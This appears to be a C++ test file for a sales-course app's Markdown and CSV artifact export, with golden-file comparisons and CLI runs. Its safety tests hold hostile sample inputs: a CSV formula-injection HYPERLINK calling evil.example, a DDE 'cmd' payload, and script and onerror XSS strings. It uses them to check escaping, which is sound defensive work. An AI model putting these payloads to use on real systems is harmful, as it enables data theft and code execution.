// Artifact export: Markdown and CSV compared byte for byte with golden files in tests/data/export/, and the
// `groundwork export --format md|csv --out DIR` verb through the real binary.
//
// After an intended change to the output, regenerate the goldens and review the diff:
//   GROUNDWORK_UPDATE_GOLDEN=1 ./build/tests/test_runtime -tc='*golden*'
#include <doctest/doctest.h>

#include <sys/wait.h>

#include <array>
#include <cstdio>
#include <cstdlib>
#include <ctime>
#include <filesystem>
#include <iterator>
#include <set>
#include <sstream>
#include <string>

#include "progress/profile_migration.h"
#include "../progress/temp_dir.h"
#include "progress/profile_json.h"
#include "progress/profile_store.h"
#include "runtime/cli/app_options.h"
#include "runtime/artifacts/artifact_export.h"
#include "runtime/artifacts/calendar_date.h"
#include "runtime/course/course_loader.h"

#include <cmark-gfm.h>

using namespace gw;
using nlohmann::json;
namespace fs = std::filesystem;

namespace {

const fs::path kGoldenDir = fs::path(GROUNDWORK_TEST_DATA) / "export";

// Created/edited dates are the learner's local calendar dates: pin the zone so the goldens hold everywhere.
class UtcZone {
public:
    UtcZone() {
        if (const char* tz = std::getenv("TZ")) saved_ = tz, had_ = true;
        setenv("TZ", "UTC", 1);
        tzset();
    }
    ~UtcZone() {
        if (had_) setenv("TZ", saved_.c_str(), 1);
        else unsetenv("TZ");
        tzset();
    }

private:
    std::string saved_;
    bool had_ = false;
};

Millis at(const std::string& day, int hour = 12) { return (*parse_date(day) * 86400 + hour * 3600) * Millis(1000); }

std::string visible(const std::string& line) {
    std::string out;
    for (char c : line) out += c == '\r' ? std::string("\\r") : std::string(1, c);
    return out;
}

bool updating_goldens() {
    const char* v = std::getenv("GROUNDWORK_UPDATE_GOLDEN");
    return v && std::string(v) == "1";
}

// Byte-for-byte against tests/data/export/<name>; a failure names the first differing line.
void check_golden(const std::string& name, const std::string& actual) {
    const fs::path file = kGoldenDir / name;
    if (updating_goldens()) {
        test::spit(file, actual);
        MESSAGE("golden updated: " << file.string());
        return;
    }
    INFO("golden file " << file.string() << " (regenerate with GROUNDWORK_UPDATE_GOLDEN=1 and review the diff)");
    REQUIRE_MESSAGE(fs::exists(file), "missing golden file");
    const std::string expected = test::slurp(file);
    if (expected == actual) return;
    std::istringstream e(expected), a(actual);
    std::string el, al;
    int line = 0;
    for (;;) {
        ++line;
        const bool has_e = bool(std::getline(e, el)), has_a = bool(std::getline(a, al));
        if (!has_e && !has_a) break;  // differ only in a final line break
        if (has_e && has_a && el == al) continue;
        FAIL_CHECK("output differs from " << name << " at line " << line << "\n  expected: "
                                          << (has_e ? "\"" + visible(el) + "\"" : "<end of file>")
                                          << "\n  actual:   " << (has_a ? "\"" + visible(al) + "\"" : "<end of file>"));
        return;
    }
    FAIL_CHECK("output differs from " << name << " only in its final line break");
}

const Course& shipped_course() {
    static const Course course = load_course(GROUNDWORK_SHIPPED_CONTENT);
    return course;
}

// Two accounts and one of each kind the brief names, plus a portfolio artifact and one of a removed kind.
Profile sample() {
    Profile p;
    Account& northwind = p.add_account("Northwind Traders", at("2026-09-01"));  // acct-1
    northwind.current_value = 1250000;
    northwind.potential_value = 2000000;
    northwind.tier = 1;
    p.add_account("Contoso & Sons, Ltd.", at("2026-09-02"));  // acct-2

    Artifact& map = p.add_artifact("account-map", "Account map", "acct-1", at("2026-09-21"));  // art-1
    map.edited = at("2026-10-02");
    map.values = {
        {"stakeholders",
         json::array({
             {{"name", "Dana Whitfield"}, {"role", "COO"}, {"location", "Head office"}, {"influence", "decision_maker"},
              {"quality", "strong"}, {"value_seen", "Fewer escalations"}, {"challenge", "Board wants a 10% cost cut"},
              {"outreach", "Share the Q3 results"}, {"outreach_date", "2026-10-15"}},
             {{"name", "Luis Ortega"}, {"role", "Ops | Finance lead"}, {"location", "Rotterdam, NL"},
              {"influence", "influencer"}, {"quality", "neutral"},
              {"value_seen", "Calls us \"the quiet one\" that just works"},
              {"challenge", "Month-end close\nruns late"}, {"outreach", "Coffee at the site visit"}},
             {{"name", "Priya Nair"}, {"role", "Analyst"}, {"influence", "user"}, {"quality", "unknown"}},
             {{"name", "Tom Becker"}, {"role", "Procurement"}, {"influence", "influencer"}, {"quality", "at_risk"},
              {"challenge", "Pushing for a re-tender"}, {"outreach", "Ask Dana for an introduction"},
              {"outreach_date", "2026-10-01"}},
         })},
        {"competitors", "Acme Logistics holds the EU freight lanes.\n\nThreat: their contract renews in March."},
    };
    p.work_in(kShippedCourseId).link(map.id, "account-mapping");

    Artifact& qbr = p.add_artifact("qbr-design", "QBR design", "acct-1", at("2026-10-20"));  // art-2
    qbr.edited = at("2026-11-02");
    qbr.values = {
        {"meeting_date", "2026-11-12"},
        {"phases", json::array({
                       {{"phase", "Results celebration"}, {"minutes", 10}, {"questions", "What did the 18% cycle-time gain free up?"}},
                       {{"phase", "Strategic context"}, {"minutes", 15}, {"questions", "What is on the board's agenda for 2027?"}},
                       {{"phase", "Current engagement health"}, {"minutes", 10}},
                       {{"phase", "Forward vision"}, {"minutes", 15}, {"questions", "Where would EU lanes fit, if at all?"}},
                       {{"phase", "Alignment conversation"}, {"minutes", 5}},
                   })},
        {"preparation", {{"results", true}, {"intelligence", true}, {"hypothesis", false}}},
        {"hypothesis", "Consolidating the EU lanes with us saves them a second vendor review."},
        {"we_do", "Send the capacity model"},
        {"client_does", "Confirm Q1 volumes"},
        {"by_when", "2026-11-26"},
    };
    p.work_in(kShippedCourseId).link(qbr.id, "qbr");
    p.work_in(kShippedCourseId).link(qbr.id, "hw-qbr-design");

    Artifact& audit = p.add_artifact("health-audit", "Health audit", "acct-2", at("2026-11-26", 9));  // art-3
    audit.values = {
        {"audit_date", "2026-11-26"},     {"response_time", "at_risk"}, {"engagement", "healthy"},
        {"referrals", "at_risk"},         {"tone", "healthy"},
        {"opening_question", "What has changed on your side since the summer?"},
    };
    p.work_in(kShippedCourseId).link(audit.id, "hw-health-audit");
    p.work_in(kShippedCourseId).edit_reflection("old-retention", "Retention Basics", at("2026-11-20"));  // a module since removed from the course
    p.work_in(kShippedCourseId).link(audit.id, "old-retention");

    Artifact& plan = p.add_artifact("account-plan", "Account plan", "acct-1", at("2026-10-05"));  // art-4
    plan.values = {
        {"plan_date", "2026-10-05"},
        {"profile", "Regional distributor, 400 staff.\nStrategy: grow the EU business 20% by 2028."},
        {"current_revenue", 1250000},
        {"forecast", 1480000.5},
        {"actions", json::array({
                        {{"action", "Map the finance team"}, {"owner", "Me"}, {"due", "2026-10-20"}, {"done", true}},
                        {{"action", "Propose the EU lane pilot"}, {"owner", "Me, with Dana"}, {"due", "2026-11-30"},
                         {"done", false}},
                    })},
        {"confidence", 4},
        {"legacy_summary", "Kept from the old one-page template."},  // a field the declaration no longer has
    };
    p.work_in(kShippedCourseId).link(plan.id, "account-plan");
    p.work_in(kShippedCourseId).link(plan.id, "hw-account-plan-sprint");

    Artifact& tiers = p.add_artifact("tiering-rhythm", "Tiering and operating rhythm", "", at("2026-11-01"));  // art-5
    tiers.values = {
        {"accounts", json::array({
                         {{"account", "acct-1"}, {"tier", "tier_1"}, {"reason", "Largest gap to potential"}},
                         {{"account", "acct-2"}, {"tier", "tier_2"}, {"next_review", "2027-01-15"}},
                         {{"account", "acct-9"}, {"tier", "tier_3"}},  // an account since deleted
                     })},
        {"monthly", {{"health_check", true}, {"pipeline", true}}},
        {"weekly_block", "Fridays 08:30, 30 minutes"},
    };

    Artifact& swot = p.add_artifact("swot", "SWOT analysis", "", at("2026-08-15"));  // art-6: kind not in the course
    swot.values = {
        {"strengths", "Long tenure\nFast response"},
        {"score", 3},
        {"reviewed", true},
        {"threats", json::array({{{"threat", "Re-tender, \"open\" to all"}, {"likelihood", 2}}})},
        {"checks", {{"pricing", true}, {"contract", false}}},
    };
    return p;
}

const char* const kMarkdownFiles[] = {
    "northwind-traders-account-map-art-1.md", "northwind-traders-qbr-design-art-2.md",
    "contoso-sons-ltd-health-audit-art-3.md", "northwind-traders-account-plan-art-4.md",
    "portfolio-tiering-rhythm-art-5.md",      "portfolio-swot-art-6.md",
};
const char* const kCsvFiles[] = {
    "northwind-traders-account-map-art-1-stakeholders.csv", "northwind-traders-qbr-design-art-2-phases.csv",
    "northwind-traders-account-plan-art-4-actions.csv",     "portfolio-tiering-rhythm-art-5-accounts.csv",
    "portfolio-swot-art-6-threats.csv",
};

struct Run {
    int exit_code = -1;
    std::string out, err;
};

// The real binary with TZ pinned, stdout and stderr kept apart.
Run run(const std::string& args, const test::TempDir& scratch) {
    const fs::path err_file = scratch / "stderr.txt";
    const std::string cmd = "TZ=UTC " + std::string(GROUNDWORK_BINARY) + " " + args + " 2>" + err_file.string();
    Run r;
    FILE* p = popen(cmd.c_str(), "r");
    REQUIRE(p);
    std::array<char, 4096> buf{};
    while (std::fgets(buf.data(), int(buf.size()), p)) r.out += buf.data();
    const int status = pclose(p);
    r.exit_code = WIFEXITED(status) ? WEXITSTATUS(status) : -1;
    r.err = test::slurp(err_file);
    return r;
}

void save(const test::TempDir& dir, const std::string& name, const Profile& p) {
    ProfileStore store(dir.path(), name);
    Profile ignored;
    store.open(&ignored);
    store.save(p);
    REQUIRE(store.flush());
}

std::set<std::string> files_in(const fs::path& dir) {
    std::set<std::string> names;
    for (const auto& e : fs::directory_iterator(dir)) names.insert(e.path().filename().string());
    return names;
}

}  // namespace

TEST_CASE("artifact Markdown matches the golden files") {
    UtcZone utc;
    const Course& course = shipped_course();
    REQUIRE(course.find_artifact_kind("account-map"));
    const Profile p = sample();
    REQUIRE(p.artifacts.size() == std::size(kMarkdownFiles));
    for (size_t i = 0; i < p.artifacts.size(); ++i) {
        const Artifact& a = p.artifacts[i];
        CAPTURE(a.id);
        CHECK(artifact_markdown_name(a, p) == kMarkdownFiles[i]);
        check_golden(kMarkdownFiles[i], artifact_markdown(course.find_artifact_kind(a.kind), a, p, course));
    }
}

TEST_CASE("artifact table CSV matches the golden files") {
    const Course& course = shipped_course();
    const Profile p = sample();
    struct Table {
        const char* artifact;
        const char* field;
        const char* file;
    } tables[] = {
        {"art-1", "stakeholders", kCsvFiles[0]},
        {"art-2", "phases", kCsvFiles[1]},
        {"art-4", "actions", kCsvFiles[2]},
        {"art-5", "accounts", kCsvFiles[3]},
    };
    for (const Table& t : tables) {
        CAPTURE(t.file);
        const Artifact* a = p.artifact(t.artifact);
        REQUIRE(a);
        const Field* field = course.find_artifact_kind(a->kind)->field(t.field);
        REQUIRE(field);
        CHECK(artifact_csv_name(*a, p, t.field) == t.file);
        check_golden(t.file, table_csv(*field, a->values[t.field], p));
    }
}

TEST_CASE("what the goldens promise, spelled out") {
    UtcZone utc;
    const Course& course = shipped_course();
    const Profile p = sample();
    auto md = [&](const char* id) {
        const Artifact* a = p.artifact(id);
        return artifact_markdown(course.find_artifact_kind(a->kind), *a, p, course);
    };
    const std::string map = md("art-1"), qbr = md("art-2"), audit = md("art-3"), plan = md("art-4"), swot = md("art-6");
    CHECK(map.rfind("# Account map \xE2\x80\x94 Northwind Traders\n", 0) == 0);
    CHECK(map.find("Created 2026-09-21 \xC2\xB7 edited 2026-10-02 \xC2\xB7 linked from Module 2: Mapping the Account Landscape") != std::string::npos);
    CHECK(map.find("| Ops \\| Finance lead |") != std::string::npos);                 // pipe escaped in a cell
    CHECK(map.find("Month-end close<br>runs late") != std::string::npos);             // one line per row
    CHECK(map.find("| Decision maker | Strong |") != std::string::npos);             // choices by label
    CHECK(map.find("Warning \xC2\xB7 Threading: Single-threaded") != std::string::npos);
    CHECK(map.find("## Notes\n\n\xE2\x80\x94\n") != std::string::npos);                // empty field
    CHECK(qbr.find("- [x] Results compiled") != std::string::npos);
    CHECK(qbr.find("- [ ] Expansion hypothesis written") != std::string::npos);
    CHECK(qbr.find("Agenda: 55 of 60") != std::string::npos);
    CHECK(audit.find("**Status:** At risk (red) \xC2\xB7 follow-up due 2026-12-06") != std::string::npos);
    CHECK(audit.find("Retention Basics (no longer in the course)") != std::string::npos);
    CHECK(plan.find("Regional distributor, 400 staff.  \nStrategy:") != std::string::npos);  // a hard line break
    CHECK(plan.find("1,250,000") != std::string::npos);
    CHECK(plan.find("1,480,000.50") != std::string::npos);
    CHECK(plan.find("4 / 5") != std::string::npos);
    CHECK(plan.find("## legacy_summary (no longer in the course)") != std::string::npos);
    CHECK(md("art-5").find("| Northwind Traders |") != std::string::npos);          // account references by name
    CHECK(swot.rfind("# SWOT analysis \xE2\x80\x94 Portfolio\n", 0) == 0);
    CHECK(swot.find("no longer declares") != std::string::npos);

    const Artifact* a = p.artifact("art-1");
    const std::string csv = table_csv(*course.find_artifact_kind("account-map")->field("stakeholders"),
                                      a->values["stakeholders"], p);
    CHECK(csv.find("\"Calls us \"\"the quiet one\"\" that just works\"") != std::string::npos);
    CHECK(csv.find("\"Month-end close\nruns late\"") != std::string::npos);
    CHECK(csv.find("\"Rotterdam, NL\"") != std::string::npos);
    CHECK(csv.rfind("\xEF\xBB\xBFName,Role,Location or team,Influence,Relationship,", 0) == 0);  // BOM first
    Field money;
    money.id = "amount";
    money.label = "Amount";
    money.kind = FieldKind::Money;
    Field table;
    table.kind = FieldKind::Table;
    table.columns = {money};
    CHECK(table_csv(table, json::array({{{"amount", 1480000.5}}, {{"amount", 2000}}}), p) == "\xEF\xBB\xBF" "Amount\r\n1480000.50\r\n2000\r\n");
    CHECK(table_csv(table, json::array(), p) == "\xEF\xBB\xBF" "Amount\r\n");
}

TEST_CASE("file names: slugs of account name, kind and id") {
    CHECK(export_slug("Contoso & Sons, Ltd.") == "contoso-sons-ltd");
    CHECK(export_slug("  --Acme 2026!! ") == "acme-2026");
    CHECK(export_slug("Müller GmbH") == "m-ller-gmbh");
    CHECK(export_slug("日本") == "");
    Profile p;
    p.add_account("日本", 1);  // nothing ASCII to slug: the account id stands in
    Artifact& a = p.add_artifact("../../etc", "x", "acct-1", 1);
    CHECK(artifact_markdown_name(a, p) == "acct-1-etc-art-1.md");
    a.account = "";
    CHECK(artifact_csv_name(a, p, "rows") == "portfolio-etc-art-1-rows.csv");
}

TEST_CASE("export_artifacts writes md, csv and json files and reports a folder it cannot create") {
    UtcZone utc;
    test::TempDir dir;
    const Profile p = sample();
    std::ostringstream log;
    std::string error;
    CHECK(export_artifacts(p, shipped_course(), "md", dir / "md", log, &error) == 6);
    CHECK(files_in(dir / "md") == std::set<std::string>(std::begin(kMarkdownFiles), std::end(kMarkdownFiles)));
    CHECK(log.str().find((dir / "md" / kMarkdownFiles[0]).string() + "\n") != std::string::npos);
    CHECK(export_artifacts(p, shipped_course(), "csv", dir / "csv", log, &error) == 5);
    CHECK(files_in(dir / "csv") == std::set<std::string>(std::begin(kCsvFiles), std::end(kCsvFiles)));
    CHECK(export_artifacts(p, shipped_course(), "json", dir / "json", log, &error) == 1);
    CHECK(test::slurp(dir / "json/profile.json") == serialize_profile(p));

    test::spit(dir / "a-file", "x");
    CHECK(export_artifacts(p, shipped_course(), "md", dir / "a-file" / "sub", log, &error) == -1);
    CHECK(error.find("cannot create the folder") != std::string::npos);
    CHECK(export_artifacts(p, shipped_course(), "xml", dir / "x", log, &error) == -1);
    CHECK(error.find("unknown export format") != std::string::npos);
}

TEST_CASE("the binary: export --format md/csv --out DIR writes the golden files") {
    test::TempDir dir;
    save(dir, "anna", sample());
    const std::string data = " --profile anna --data-dir " + dir.path().string();

    Run md = run("export --format md --out " + (dir / "md").string() + data, dir);
    INFO(md.err);
    REQUIRE(md.exit_code == 0);
    CHECK(md.err.empty());
    // The artifacts, then the learner's reflections beside them (issue 10: an export carries everything).
    std::set<std::string> md_files(std::begin(kMarkdownFiles), std::end(kMarkdownFiles));
    md_files.insert(kWorkMarkdownName);
    CHECK(files_in(dir / "md") == md_files);
    std::string expected_lines;
    for (const char* f : kMarkdownFiles) expected_lines += (dir / "md" / f).string() + "\n";
    expected_lines += (dir / "md" / kWorkMarkdownName).string() + "\n";
    CHECK(md.out == expected_lines);  // one line per file, in profile order
    for (const char* f : kMarkdownFiles) check_golden(f, test::slurp(dir / "md" / f));

    // --profile and --data-dir before the verb work as well
    Run csv = run(data + " export --out " + (dir / "csv").string() + " --format csv", dir);
    INFO(csv.err);
    REQUIRE(csv.exit_code == 0);
    std::set<std::string> csv_files(std::begin(kCsvFiles), std::end(kCsvFiles));  // one per table
    csv_files.insert(kAccountsCsvName);                                          // and the accounts
    CHECK(files_in(dir / "csv") == csv_files);
    for (const char* f : kCsvFiles) check_golden(f, test::slurp(dir / "csv" / f));
}

TEST_CASE("the binary: export usage errors and unwritable folders") {
    test::TempDir dir;
    save(dir, "anna", sample());
    const std::string data = " --profile anna --data-dir " + dir.path().string();

    Run xml = run("export --format xml --out " + (dir / "x").string() + data, dir);
    CHECK(xml.exit_code == kExitUsage);
    CHECK(xml.err.find("xml") != std::string::npos);
    CHECK(!fs::exists(dir / "x"));

    Run no_out = run("export --format md" + data, dir);
    CHECK(no_out.exit_code == kExitContentErrors);
    CHECK(no_out.out.empty());
    CHECK(no_out.err.find("--out DIR") != std::string::npos);

    test::spit(dir / "a-file", "x");
    Run blocked = run("export --format csv --out " + (dir / "a-file" / "sub").string() + data, dir);
    CHECK(blocked.exit_code == kExitContentErrors);
    CHECK(blocked.err.find("cannot create the folder") != std::string::npos);

    Run nobody = run("export --format md --out " + (dir / "n").string() + " --profile nobody --data-dir " + dir.path().string(), dir);
    CHECK(nobody.exit_code == kExitContentErrors);
    CHECK(nobody.err.find("no profile \"nobody\"") != std::string::npos);

    // json: stdout as before, or profile.json in the folder
    Run to_stdout = run("export" + data, dir);
    CHECK(to_stdout.exit_code == 0);
    Run to_folder = run("export --format json --out " + (dir / "j").string() + data, dir);
    CHECK(to_folder.exit_code == 0);
    CHECK(to_folder.out == (dir / "j" / "profile.json").string() + "\n");
    CHECK(test::slurp(dir / "j" / "profile.json") == to_stdout.out);
}

TEST_CASE("the binary: an artifact whose kind was removed from the content still exports") {
    test::TempDir dir;
    save(dir, "anna", sample());
    const fs::path course = dir / "course";
    fs::copy(GROUNDWORK_SHIPPED_CONTENT, course, fs::copy_options::recursive);
    REQUIRE(fs::remove(course / "artifacts" / "health-audit.md"));
    const std::string args = " --profile anna --data-dir " + dir.path().string() + " --content " + course.string();

    Run md = run("export --format md --out " + (dir / "md").string() + args, dir);
    INFO(md.err);
    CHECK(md.exit_code == 0);
    CHECK(files_in(dir / "md").size() == 7);  // six artifacts and my-work.md
    const std::string audit = test::slurp(dir / "md" / "contoso-sons-ltd-health-audit-art-3.md");
    CHECK(audit.rfind("# Health audit \xE2\x80\x94 Contoso & Sons, Ltd.\n", 0) == 0);  // the title it was created with
    CHECK(audit.find("no longer declares") != std::string::npos);
    CHECK(audit.find("## response_time\n\nat_risk\n") != std::string::npos);  // saved values, under their ids
    CHECK(audit.find("linked from Homework 3: Account Health Audit") != std::string::npos);
    // the rest still uses the declarations
    CHECK(test::slurp(dir / "md" / kMarkdownFiles[0]).find("## Stakeholders") != std::string::npos);
}

TEST_CASE("values that no longer fit their declaration are still shown, never thrown on") {
    UtcZone utc;
    const Course& course = shipped_course();
    Profile p;
    Artifact& a = p.add_artifact("qbr-design", "QBR design", "acct-7", 0);  // an account that is gone, no dates
    a.values = {
        {"meeting_date", 20261112},
        {"phases", "was a paragraph once"},
        {"preparation", json::array({"results"})},
        {"we_do", nullptr},
        {"old_rows", json::array({{{"a", 1}}, "stray"})},
    };
    std::string md;
    REQUIRE_NOTHROW(md = artifact_markdown(course.find_artifact_kind("qbr-design"), a, p, course));
    CHECK(md.rfind("# QBR design \xE2\x80\x94 acct-7 (account no longer in your list)\n\n**Status:**", 0) == 0);
    CHECK(md.find("## Meeting date\n\n20261112\n") != std::string::npos);
    CHECK(md.find("## Agenda\n\nwas a paragraph once\n") != std::string::npos);
    CHECK(md.find("## Preparation\n\n\\[\"results\"\\]\n") != std::string::npos);  // shown as text, never a link
    CHECK(md.find("## Commitment: what we will do\n\n\xE2\x80\x94\n") != std::string::npos);
    CHECK(md.find("| 1 |\n| stray |") != std::string::npos);
    CHECK(artifact_markdown_name(a, p) == "acct-7-qbr-design-art-1.md");

    Field table = *course.find_artifact_kind("qbr-design")->field("phases");
    CHECK(table_csv(table, json("not rows"), p) == "\xEF\xBB\xBF" "Phase,Minutes,Questions to ask\r\n");
    CHECK(table_csv(table, json::array({{{"phase", "Extra"}, {"minutes", 7.5}, {"room", "B2"}, {"gone", nullptr}}}), p) ==
          "\xEF\xBB\xBF" "Phase,Minutes,Questions to ask,room\r\nExtra,7.5,,B2\r\n");
}

// ---- exports that are safe to open (issue 7) ------------------------------------------------------------------

namespace {

const std::string kBom = "\xEF\xBB\xBF";
const std::string kHyperlink = "=HYPERLINK(\"http://evil.example/?x=\"&A2,\"details\")";

Field column(const std::string& id, const std::string& label, FieldKind kind) {
    Field f;
    f.id = id;
    f.label = label;
    f.kind = kind;
    return f;
}

// '|' that end a GFM table cell: those not escaped by an odd run of backslashes.
int cell_pipes(const std::string& line) {
    int n = 0;
    for (size_t i = 0; i < line.size(); ++i) {
        if (line[i] != '|') continue;
        size_t slashes = 0;
        while (slashes < i && line[i - 1 - slashes] == '\\') ++slashes;
        if (slashes % 2 == 0) ++n;
    }
    return n;
}

size_t count(const std::string& text, const std::string& what) {
    size_t n = 0;
    for (size_t at = text.find(what); at != std::string::npos; at = text.find(what, at + what.size())) ++n;
    return n;
}

// CommonMark's own reading of the document, raw HTML let through, so whatever a permissive viewer would do shows.
std::string as_html(const std::string& markdown) {
    char* html = cmark_markdown_to_html(markdown.data(), markdown.size(), CMARK_OPT_UNSAFE);
    std::string out = html;
    std::free(html);
    return out;
}

// An account map whose learner typed what an attacker would: formulas, Markdown structure and HTML.
Profile hostile_profile() {
    Profile p;
    p.add_account("Evil <b>Co</b>\n# Injected heading", at("2026-09-01"));  // acct-1
    p.add_account("@SUM(A1:A9)", at("2026-09-01"));                           // acct-2
    Artifact& map = p.add_artifact("account-map", "Account map", "acct-1", at("2026-09-21"));  // art-1
    map.values = {
        {"stakeholders",
         json::array({
             {{"name", kHyperlink}, {"role", "-2+3"}, {"location", "@SUM(A1:A9)"}, {"influence", "decision_maker"},
              {"quality", "strong"}, {"value_seen", "+1"}, {"challenge", "\t=1+1"}, {"outreach", "\r=1+1"}},
             {{"name", "Renée Ångström"}, {"role", "Directrice générale"}, {"location", "Zürich"}},
             {{"name", " =1+1"}, {"role", "a;=1+1"}, {"influence", "-x"}},
             {{"name", "Pipe | <img src=x onerror=alert(1)> [click](javascript:alert(1))"},
              {"role", "line one\n# two\n> three\n| four |"}, {"location", "`code` **bold** ~~gone~~ &lt;b&gt; \\"}},
         })},
        {"competitors",
         "# Not a heading\n> not a quote\n- not a list\n1. not numbered\n<script>alert(1)</script>\n---\n"
         "    indented code\n| a | b |\n![img](http://evil.example/x.png) <http://evil.example>\n===\nclosing ##"},
        {"notes", "**bold** _em_ `code` [link](javascript:alert(1)) &amp; snake_case"},
    };
    p.work_in(kShippedCourseId).edit_reflection("gone-module", "<script>t</script>\n# Retitled", at("2026-09-22"));
    p.work_in(kShippedCourseId).link(map.id, "gone-module");

    Artifact& old = p.add_artifact("x\n# kind", "<b>Old</b>\n# title", "", at("2026-09-23"));  // art-2: kind removed
    old.values = {
        {"# key\n<script>", "> quoted"},
        {"rows", json::array({{{"=cmd|' /C calc'!A0", "-2+3"}, {"amount", -1500}}})},
        {"ticks", {{"<img src=x onerror=alert(1)>", true}, {"- [x] sneaky", false}}},
    };
    return p;
}

}  // namespace

TEST_CASE("CSV: learner text a spreadsheet would run as a formula is written as text (OWASP: leading ')") {
    const Course& course = shipped_course();
    const Profile p = hostile_profile();
    const std::string csv = table_csv(*course.find_artifact_kind("account-map")->field("stakeholders"),
                                      p.artifact("art-1")->values["stakeholders"], p);
    REQUIRE(csv.rfind(kBom, 0) == 0);
    std::istringstream lines(csv.substr(kBom.size()));
    std::string header, hyperlink, accented, spaced;
    std::getline(lines, header);
    std::getline(lines, hyperlink);
    std::getline(lines, accented);
    std::getline(lines, spaced);
    CHECK(header == "Name,Role,Location or team,Influence,Relationship,Value they see,Challenge we could address,"
                    "Next outreach,By\r");
    CHECK(hyperlink ==
          "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A2,\"\"details\"\")\",'-2+3,'@SUM(A1:A9),Decision maker,"
          "Strong,'+1,\"'\t=1+1\",\"'\r=1+1\",\r");
    CHECK(accented == "Renée Ångström,Directrice générale,Zürich,,,,,,\r");   // UTF-8 as typed, after the BOM
    CHECK(spaced == "' =1+1,\"a;=1+1\",,'-x,,,,,\r");  // blanks before '=' and ';'-separated locales are covered too
    check_golden("hostile-account-map-stakeholders.csv", csv);  // the whole file, for review

    // An account reference renders the account's name: that name is learner text too.
    Field accounts = column("accounts", "Accounts", FieldKind::Table);
    accounts.columns = {column("account", "Account", FieldKind::Account)};
    CHECK(table_csv(accounts, json::array({{{"account", "acct-2"}}}), p) == kBom + "Account\r\n'@SUM(A1:A9)\r\n");
}

TEST_CASE("CSV: numbers the app wrote stay numbers, negative ones included; text in a typed column does not") {
    const Profile p;
    Field table = column("rows", "Rows", FieldKind::Table);
    table.columns = {column("name", "Name", FieldKind::Text), column("amount", "Amount", FieldKind::Money),
                     column("minutes", "=Minutes", FieldKind::Number), column("score", "Score", FieldKind::Rating)};
    const json rows = json::array({
        {{"name", "-2+3"}, {"amount", -1500.5}, {"minutes", -3}, {"score", 4}},
        {{"name", "Zoë"}, {"amount", -1500}, {"minutes", 2.5}},
        {{"amount", "=1+1"}, {"minutes", "-5"}},  // strings in number columns: imported, or the column changed kind
    });
    CHECK(table_csv(table, rows, p) == kBom +
                                           "Name,Amount,'=Minutes,Score\r\n"
                                           "'-2+3,-1500.50,-3,4 / 5\r\n"
                                           "Zoë,-1500,2.5,\r\n"
                                           ",'=1+1,'-5,\r\n");
}

TEST_CASE("CSV: every file export_artifacts writes has the BOM and the escaping, tables of removed kinds too") {
    test::TempDir dir;
    const Profile p = hostile_profile();
    std::ostringstream log;
    std::string error;
    REQUIRE(export_artifacts(p, shipped_course(), "csv", dir / "csv", log, &error) == 2);
    for (const auto& e : fs::directory_iterator(dir / "csv")) {
        CAPTURE(e.path().string());
        CHECK(test::slurp(e.path()).rfind(kBom, 0) == 0);
    }
    const std::string old = test::slurp(dir / "csv" / "portfolio-x-kind-art-2-rows.csv");
    CHECK(old == kBom + "'=cmd|' /C calc'!A0,amount\r\n'-2+3,-1500\r\n");
}

TEST_CASE("Markdown: hostile values render as plain text, never as structure, links or HTML") {
    UtcZone utc;
    const Course& course = shipped_course();
    const Profile p = hostile_profile();
    const Artifact& map = *p.artifact("art-1");
    const std::string md = artifact_markdown(course.find_artifact_kind("account-map"), map, p, course);
    INFO(md);
    check_golden("hostile-account-map.md", md);  // the whole document, for review
    const std::string html = as_html(md);
    INFO(html);

    // Structure: the title, three fields, the rules list and the status line, nothing more.
    CHECK(count(html, "<h1>") == 1);
    CHECK(count(html, "<h2>") == 3);
    CHECK(count(html, "<ul>") == 1);
    CHECK(count(html, "<li>") == 2);
    CHECK(count(html, "<strong>") == 1);
    for (const char* tag : {"<h3", "<h4", "<blockquote", "<ol", "<hr", "<pre", "<code", "<em>", "<a ", "<img", "<script",
                            "<b>", "<del"})
        CHECK_MESSAGE(html.find(tag) == std::string::npos, tag);
    // ...and the text is all there, as typed.
    CHECK(html.find("<h1>Account map \xE2\x80\x94 Evil &lt;b&gt;Co&lt;/b&gt; # Injected heading</h1>") != std::string::npos);
    CHECK(html.find("&lt;script&gt;t&lt;/script&gt; # Retitled (no longer in the course)") != std::string::npos);
    CHECK(html.find("# Not a heading<br />\n&gt; not a quote<br />\n- not a list<br />\n1. not numbered<br />\n"
                    "&lt;script&gt;alert(1)&lt;/script&gt;<br />\n---<br />\nindented code<br />\n| a | b |<br />\n"
                    "![img](http://evil.example/x.png) &lt;http://evil.example&gt;<br />\n===<br />\nclosing ##") !=
          std::string::npos);
    CHECK(html.find("**bold** _em_ `code` [link](javascript:alert(1)) &amp;amp; snake_case") != std::string::npos);

    // Table rows keep their nine cells whatever a cell holds.
    std::istringstream lines(md);
    int rows = 0;
    for (std::string line; std::getline(lines, line);)
        if (line.rfind("| ", 0) == 0) {
            CAPTURE(line);
            CHECK(cell_pipes(line) == 10);
            ++rows;
        }
    CHECK(rows == 6);  // header, delimiter, four stakeholders
    CHECK(md.find("| Pipe \\| \\<img src=x onerror=alert(1)> \\[click\\](javascript:alert(1)) | line one<br># two<br>"
                  "> three<br>\\| four \\| | \\`code\\` \\*\\*bold\\*\\* \\~\\~gone\\~\\~ \\&lt;b\\&gt; \\\\ |") !=
          std::string::npos);
}

TEST_CASE("Markdown: a kind the course dropped still renders its hostile keys and values as plain text") {
    UtcZone utc;
    const Course& course = shipped_course();
    const Profile p = hostile_profile();
    const std::string md = artifact_markdown(nullptr, *p.artifact("art-2"), p, course);
    INFO(md);
    const std::string html = as_html(md);
    INFO(html);
    CHECK(count(html, "<h1>") == 1);
    CHECK(count(html, "<h2>") == 3);
    CHECK(count(html, "<ul>") == 1);  // the ticks, as a task list
    CHECK(count(html, "<li>") == 2);
    for (const char* tag : {"<blockquote", "<img", "<script", "<b>", "<ol", "<h3"}) CHECK_MESSAGE(html.find(tag) == std::string::npos, tag);
    CHECK(html.find("<h1>&lt;b&gt;Old&lt;/b&gt; # title \xE2\x80\x94 Portfolio</h1>") != std::string::npos);
    CHECK(html.find("(&quot;x # kind&quot;)") != std::string::npos);
    CHECK(html.find("<h2># key &lt;script&gt;</h2>\n<p>&gt; quoted</p>") != std::string::npos);
    CHECK(html.find("<li>[x] &lt;img src=x onerror=alert(1)&gt;</li>") != std::string::npos);
    CHECK(html.find("<li>[ ] - [x] sneaky</li>") != std::string::npos);
}
